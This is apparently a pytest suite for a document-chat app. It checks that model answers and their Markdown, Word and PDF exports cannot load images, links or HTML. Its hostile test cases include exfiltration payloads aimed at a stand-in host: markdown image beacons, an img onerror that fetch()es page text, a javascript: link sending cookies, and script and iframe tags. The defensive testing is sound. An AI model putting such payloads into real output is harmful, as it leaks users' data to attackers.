"""Model output shown and exported without images, links or anything else the browser fetches.

A hostile answer goes through the sanitiser and then through markdown-it with raw HTML
passed through (stricter than Streamlit, which drops it); GFM's autolinking of bare
addresses, which markdown-it only does with an optional package, is checked on the text
outside code. Each hostile case is first shown to be a hazard without the sanitiser.
"""

from __future__ import annotations

import html
import io
import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import docx
import pytest
from markdown_it import MarkdownIt
from pypdf import PdfReader
from streamlit.testing.v1 import AppTest

from app.services import exports, safe_markdown
from storage import ChatSessionInfo, DocumentRef, MessageInfo, SessionDocumentInfo, SummaryInfo

ROOT = Path(__file__).resolve().parents[1]
APP = ROOT / "app" / "streamlit_app.py"
TIMEOUT = 180
WHEN = datetime(2025, 3, 4, 5, 6, tzinfo=UTC)
EVIL = "http://evil.example/?q=secret"

try:
    import linkify_it  # noqa: F401

    LINKIFY = True
except ImportError:
    LINKIFY = False

BROWSER = MarkdownIt("commonmark", {"html": True, "linkify": LINKIFY}).enable(
    ["table", "strikethrough"] + (["linkify"] if LINKIFY else [])
)
ALLOWED_TAGS = {
    "p", "strong", "em", "s", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
}
# What remark-gfm turns into links in text (mdast-util-gfm-autolink-literal), a little wider.
AUTOLINK_LITERAL = re.compile(r"(?:https?://|www\.)[-.\w]+|[-.\w+]+@[-\w]+(?:\.[-\w]+)+", re.IGNORECASE)


def browser_html(markdown: str) -> str:
    return BROWSER.render(markdown)


def hazards(page: str) -> list[str]:
    """Everything in rendered HTML that could fetch or link: images, links, other tags, bare addresses."""
    found = []
    for tag in re.findall(r"<[^>]*>", page):
        name = re.match(r"</?([A-Za-z][\w-]*)", tag)
        if name is None or name.group(1).lower() not in ALLOWED_TAGS:
            found.append(tag)
        found += [f"{word} in {tag}" for word in ("src=", "href=", "language-math") if word in tag.lower()]
    outside_code = re.sub(r"<pre>.*?</pre>|<code[^>]*>.*?</code>", " ", page, flags=re.DOTALL)
    text = html.unescape(re.sub(r"<[^>]+>", " ", outside_code))
    found += [f"address {m.group(0)!r}" for m in AUTOLINK_LITERAL.finditer(text)]
    return found


def unescaped_dollars(markdown: str) -> list[str]:
    outside_code = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", markdown)
    return re.findall(r"(?<!\\)\$", outside_code)


HOSTILE = {
    "inline image": f"Summary done. ![x]({EVIL})",
    "image with title": f'![chart]({EVIL} "A chart")',
    "reference image": f"Totals below.\n\n![logo][r]\n\n[r]: {EVIL}",
    "collapsed reference image": f"![r][]\n\n[r]: {EVIL}",
    "reference link": f"See [the source][r].\n\n[r]: {EVIL}",
    "footnote": f"A claim.[^1]\n\n[^1]: {EVIL}",
    "html img": f'<img src="{EVIL}">',
    "img onerror": "<img src=x onerror=\"fetch('//evil.example/?q='+document.body.innerText)\">",
    "inline html in a paragraph": f"The rent <iframe src={EVIL}></iframe> is due.",
    "iframe": f'<iframe src="{EVIL}"></iframe>',
    "script": f'<script>fetch("{EVIL}")</script>',
    "link tag": f'<link rel="stylesheet" href="{EVIL}">',
    "video": f'<video poster="{EVIL}"></video>',
    "audio": f'<audio src="{EVIL}" autoplay></audio>',
    "object": f'<object data="{EVIL}"></object>',
    "svg": f'<svg><image href="{EVIL}"/></svg>',
    "style": f"<style>body {{ background: url({EVIL}) }}</style>",
    "autolink": f"<{EVIL}>",
    "email autolink": "<mailto:secret@evil.example>",
    "bare url": f"Details at {EVIL}.",
    "bare www": "Details at www.evil.example/?q=secret",
    "bare email": "Write to secret@evil.example",
    "link": f"[the contract]({EVIL})",
    "nested image inside link": f"[![x](http://evil.example/a.png)]({EVIL})",
    "image in a table cell": f"| Clause | Value |\n|---|---|\n| 4 | ![x]({EVIL}) |",
    "image in a list and a quote": f"- item ![x]({EVIL})\n\n> ![y]({EVIL})",
    "image in a heading": f"## Totals ![x]({EVIL})",
    "data uri": "![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwAB)",
    "javascript link": "[open](javascript:fetch('http://evil.example/?q='+document.cookie))",
    "unicode lookalikes": f"！［x］（{EVIL}）",
    "link split over a line break": f"[read\nthis]({EVIL})",
    "image alt split over a line break": f"![se\ncret]({EVIL})",
    "address split over a line break": "http://evil.\nexample/?q=secret",
    "entities spelling an image": f"&#33;&#91;x&#93;({EVIL})",
    "latex href": r"$\href{http://evil.example/?q=secret}{x}$ and $$\url{www.evil.example}$$",
    "math fence": "```math\n\\includegraphics{http://evil.example/a.png}\n```",
}


@pytest.mark.parametrize("answer", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_answer_renders_without_images_links_or_html(answer):
    assert hazards(browser_html(answer)), "the case should be a hazard without the sanitiser"
    safe = safe_markdown.render(answer)
    assert hazards(browser_html(safe)) == [], safe
    assert "](http" not in safe
    assert not re.search(r"(?<!\\)(!\[|<img)", safe)
    assert unescaped_dollars(safe) == []


@pytest.mark.parametrize("answer", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_text_as_a_plain_quote_is_inert(answer):
    safe = safe_markdown.plain(answer)
    assert hazards(browser_html(safe)) == [], safe
    assert "](http" not in safe


def test_links_and_images_keep_their_words_and_show_the_address():
    safe = safe_markdown.render(f"See [the lease]({EVIL}) and ![floor plan]({EVIL}).")
    shown = html.unescape(re.sub(r"<[^>]+>", "", browser_html(safe)))
    assert f"the lease (address: {EVIL})" in shown
    assert f"[image: floor plan, address {EVIL}]" in shown


def test_raw_html_is_shown_as_text():
    shown = html.unescape(re.sub(r"<[^>]+>", "", browser_html(safe_markdown.render("<b>x</b> <img src=y>"))))
    assert "<b>x</b> <img src=y>" in shown


BENIGN = {
    "emphasis and code": "Some **bold**, *emphasis*, ~~struck~~ and `code` in a line.\nNext line, a hard  \nbreak.",
    "headings": "# One\n\n## Two\n\nText under it.\n\n### Three *em*\n\nSetext\n======",
    "lists": "- first\n- second\n  - nested\n  - more\n- third\n\n3. three\n4. four\n\n1) a\n2) b",
    "loose list": "- para one\n\n  still one\n- two",
    "table": "| Clause | Term | Notes |\n|:--|--:|:-:|\n| 4.1 | **12** months | `x` |\n| 4.2 | 6 | — |",
    "code and quotes": "```python\nprint('$x$ [a](b)')\n```\n\n    indented\n\n> quote with **bold**\n>\n> - item",
    "punctuation": "Costs: 5% (net) — see section 3.1; 1 + 1 = 2; a_b c*d e#f 100$ a & b < c > d ~ f 12:30",
    "citation": 'The rent is due monthly [doc: "Lease", page 3, "rent is due on the first"].',
    "rules": "above\n\n---\n\nbelow\n\n***",
}


@pytest.mark.parametrize("answer", BENIGN.values(), ids=BENIGN.keys())
def test_ordinary_formatting_renders_exactly_as_before(answer):
    assert browser_html(safe_markdown.render(answer)) == browser_html(answer)


def test_math_fence_loses_its_language_but_other_languages_stay():
    safe = safe_markdown.render("```math\nx^2\n```\n\n```python\nx = 2\n```")
    assert "```math" not in safe and "```python" in safe


def test_empty_answer_stays_empty():
    assert safe_markdown.render("") == "" and safe_markdown.render("  \n") == ""


def test_citation_label_shows_a_hostile_quote_and_title_inertly():
    from app.ui.citations import label

    citation = {"document_title": f"![t]({EVIL})", "page": 2, "quote": f"![x]({EVIL}) <img src=y>",
                "verified": False}
    text = label(citation, None)
    assert "](http" not in text
    assert hazards(browser_html(text)) == []


# Exports --------------------------------------------------------------------------------

HOSTILE_ANSWER = f"The lease runs two years. ![x]({EVIL}) [more]({EVIL}) <img src={EVIL}> {EVIL}"


def hostile_summary() -> SummaryInfo:
    return SummaryInfo(
        id=1, documents=(DocumentRef("a" * 64, f"Lease ![t]({EVIL})"),), text=HOSTILE_ANSWER,
        citations=[{"document_id": None, "document_title": f"[doc]({EVIL})", "page": 3,
                    "quote": f"![q]({EVIL})", "verified": False}],
        model_name="demo-model", created_at=WHEN,
    )


def hostile_transcript() -> exports.Report:
    chat = ChatSessionInfo(7, f"Chat ![n]({EVIL})", WHEN, WHEN, 2)
    documents = [SessionDocumentInfo(0, 1, "Lease", "a" * 64)]
    messages = [
        MessageInfo(1, 7, 0, WHEN, "user", f"Question ![u]({EVIL})", None, [], "complete"),
        MessageInfo(2, 7, 1, WHEN, "assistant", HOSTILE_ANSWER, "thinking", [
            {"document_title": "Lease", "page": 2, "quote": f"<img src={EVIL}>", "verified": False},
        ], "complete"),
    ]
    return exports.transcript_report(chat, documents, messages, "demo-model")


REPORTS = {"summary": lambda: exports.summary_report(hostile_summary()), "transcript": hostile_transcript}


@pytest.mark.parametrize("make", REPORTS.values(), ids=REPORTS.keys())
def test_markdown_export_has_no_images_or_live_links(make):
    markdown = exports.to_markdown(make())
    assert "](http" not in markdown
    assert not re.search(r"(?<!\\)(!\[|<img)", markdown)
    assert hazards(browser_html(markdown)) == []
    assert "The lease runs two years." in markdown


@pytest.mark.parametrize("make", REPORTS.values(), ids=REPORTS.keys())
def test_word_export_is_plain_text_without_hyperlinks_or_images(make):
    data = exports.to_docx(make())
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        xml = "".join(archive.read(n).decode("utf-8", "replace") for n in names if n.endswith((".xml", ".rels")))
    assert not [n for n in names if n.startswith("word/media/")]
    for marker in ("<w:hyperlink", "relationships/hyperlink", "relationships/image", "<w:drawing", "<pic:",
                   "HYPERLINK", "INCLUDEPICTURE"):
        assert marker not in xml
    text = "\n".join(p.text for p in docx.Document(io.BytesIO(data)).paragraphs)
    assert "The lease runs two years." in text


@pytest.mark.parametrize("make", REPORTS.values(), ids=REPORTS.keys())
def test_pdf_export_is_plain_text_without_links_or_images(make):
    data = exports.to_pdf(make())
    reader = PdfReader(io.BytesIO(data))
    for page in reader.pages:
        assert "/Annots" not in page
        assert list(page.images) == []
    assert b"/URI" not in data and b"/Link" not in data
    assert "The lease runs two years." in "\n".join(page.extract_text() for page in reader.pages)


# The app --------------------------------------------------------------------------------


# The page runner is the page tests' own; the ``services`` fixture comes from conftest.py.
from tests.test_app_pages import open_app  # noqa: E402


def assert_inert(at: AppTest) -> str:
    shown = [str(m.value) for m in at.markdown] + [b.label for b in at.button]
    for value in shown:
        assert "](http" not in value and "![" not in value, value
        assert hazards(browser_html(value)) == [], value
    return "\n".join(shown)


def test_ask_page_shows_a_stored_hostile_answer_inertly(services):
    chat = services.sessions.create_session("Hostile answer")
    services.sessions.append_message(chat.id, "user", "What does the lease say?")
    services.sessions.append_message(
        chat.id, "assistant", f"Marker answer. ![x]({EVIL})", reasoning=f"Marker reasoning ![r]({EVIL})",
        citations=[{"document_id": None, "document_title": "Lease", "page": 1, "quote": f"![q]({EVIL})",
                    "verified": False, "start": None, "end": None}],
        status="complete",
    )
    at = open_app(chat_session_id=chat.id)
    shown = assert_inert(at)
    assert "Marker answer" in shown and "Marker reasoning" in shown
    assert f"address `{EVIL}`" in shown


def test_summaries_page_shows_a_hostile_summary_inertly(services):
    from app.services.library import Library

    library = Library(services.documents, count_tokens=services.analysis.count_tokens, tokenizer_id="test")
    added = library.add(b"A lease for the summaries page.", "hostile-summary.txt")
    assert added.ok, added.message
    summary = services.summaries.add_summary([added.document], f"Marker summary. ![x]({EVIL})",
                                             model_name="demo-model")
    at = open_app("views/summaries.py", summary_chosen=summary.id)
    assert "Marker summary" in assert_inert(at)


def hostile_stream_script() -> None:
    import threading
    import time

    from app.services.jobs import StreamJob
    from app.ui import streaming

    evil = "http://evil.example/?q=secret"

    class Event:
        def __init__(self, text: str, channel: str) -> None:
            self.kind, self.text, self.channel, self.message, self.summary = "delta", text, channel, None, None

    hold = threading.Event()

    def start(progress, cancel):
        yield Event(f"Marker reasoning ![r]({evil})", "reasoning")
        yield Event(f"Marker answer ![a]({evil})", "answer")
        hold.wait(5)  # still running while the page draws it

    job = StreamJob(start, label="Question")
    while "Marker answer" not in job.snapshot().answer:
        time.sleep(0.01)
    streaming.live(job)


def test_live_answer_and_reasoning_are_shown_inertly():
    at = AppTest.from_function(hostile_stream_script, default_timeout=TIMEOUT).run()
    assert not at.exception, at.exception
    shown = assert_inert(at)
    assert "Marker answer" in shown and "Marker reasoning" in shown


def test_stored_message_part_renders_inertly_without_a_model():
    at = AppTest.from_function(stored_message_script, default_timeout=TIMEOUT).run()
    assert not at.exception, at.exception
    assert "Stored marker" in assert_inert(at)


def stored_message_script() -> None:
    from datetime import UTC, datetime

    from app.ui import messages
    from storage import MessageInfo

    text = "Stored marker ![x](http://evil.example/?q=secret)"
    messages.show(None, MessageInfo(1, 1, 0, datetime.now(UTC), "assistant", text, text, [], "complete"))


